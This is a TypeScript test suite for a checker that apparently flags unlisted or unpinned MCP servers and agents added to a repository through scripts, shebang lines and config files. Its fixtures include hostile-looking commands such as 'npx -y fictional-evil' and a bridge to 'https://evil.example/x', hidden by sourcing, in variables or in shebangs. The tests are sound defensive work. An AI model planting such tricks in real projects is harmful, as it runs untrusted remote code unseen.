/* Tests what scripts declare and start, and agents from a registry. */
import { type Case, type FileContent, type Files, mcp, playCases } from './cases.ts';

const evil = 'npx -y fictional-evil';
const json = (value: unknown): FileContent => ({ json: value });
const program = (executable: string): FileContent => ({ executable });
const own = (command: string): Files => mcp({ command });
const added = (name: string, head: Files, expected = 'added: unlisted, unpinned'): Case => ({
  ...{ name, base: {}, head, expected },
});
const changed = (name: string, base: Files, head: Files, expected: Case['expected']): Case => ({
  ...{ name, base, head, expected },
});

const scripts = (agent: string): Files => ({ 'package.json': json({ scripts: { agent } }) });
const servers = '{"mcpServers":{"x":{"command":"npx","args":["-y","fictional-evil"]}}}';

const byShape: readonly Case[] = [
  added('a bridge', scripts('npx -y mcp-remote@1.0.0 https://evil.example/x'), 'added: unlisted'),
  added('an installer', scripts('npx -y add-mcp https://evil.example/x'), 'added: unlisted'),
  added('JSON of servers', scripts(`agentx --config '${servers}'`)),
  ...(['bin/x.sh', 'test/x.sh', 'x.ps1'] as const).map((path) =>
    added(`a shell script: ${path}`, { [path]: `claude mcp add x -- ${evil}\n` }),
  ),
  added('a script of PowerShell in UTF-16', {
    'x.ps1': Buffer.from(`\ufeffclaude mcp add x -- ${evil}\n`, 'utf16le'),
  }),
  added('an honest script', scripts('vite build --base "/a b/" && npx -y serve dist'), 'nothing'),
  added('a tester of what was built', scripts('npx -y inspector node dist/index.js'), 'nothing'),
  added('what is only printed', { 'x.sh': `cat <<'EOF'\n${servers}\nEOF\n` }, 'nothing'),
];

const starts = (script: string): Files => ({
  ...own('./bin/s.sh'),
  'bin/s.sh': program(`#!/bin/sh\n${script}\n`),
  'bin/t.sh': program('node x.js\n'),
});
const startsEvil = { 'bin/t.sh': program(`${evil}\n`) };
const fetched = 'added and unchanged: unlisted, unpinned';

const ofScripts: readonly Case[] = [
  changed('a script that is read in', starts('. ./bin/t.sh'), startsEvil, fetched),
  changed('a script that is run', starts('exec ./bin/t.sh'), startsEvil, fetched),
  changed('one beside it', starts('. "$(dirname "$0")/t.sh"'), startsEvil, fetched),
  changed(
    'a command in a variable',
    starts('node x.js'),
    { 'bin/s.sh': program(`#!/bin/sh\nC="${evil}"\nexec $C\n`) },
    /added.*: unlisted, unpinned/,
  ),
  changed(
    'a first line',
    { ...own('./s'), s: program('#!/usr/bin/env node\n1\n') },
    { s: program(`#!/usr/bin/env -S ${evil}\n1\n`) },
    /added.*unlisted, unpinned/,
  ),
  ...['node', '-S node --enable-source-maps', '-S npx tsx', '-S uv run --script'].map((line) =>
    added(
      `an honest first line: ${line}`,
      { ...own('./s'), s: program(`#!/usr/bin/env ${line}\n1\n`) },
      'added: local-code',
    ),
  ),
];

playCases([
  ...byShape,
  ...ofScripts,
  added(
    'an agent of a registry',
    { 'agent.yaml': 'agents:\n  root:\n    model: x\n    sub_agents: [own, evil/agent]\n' },
    'added: unidentified',
  ),
]);
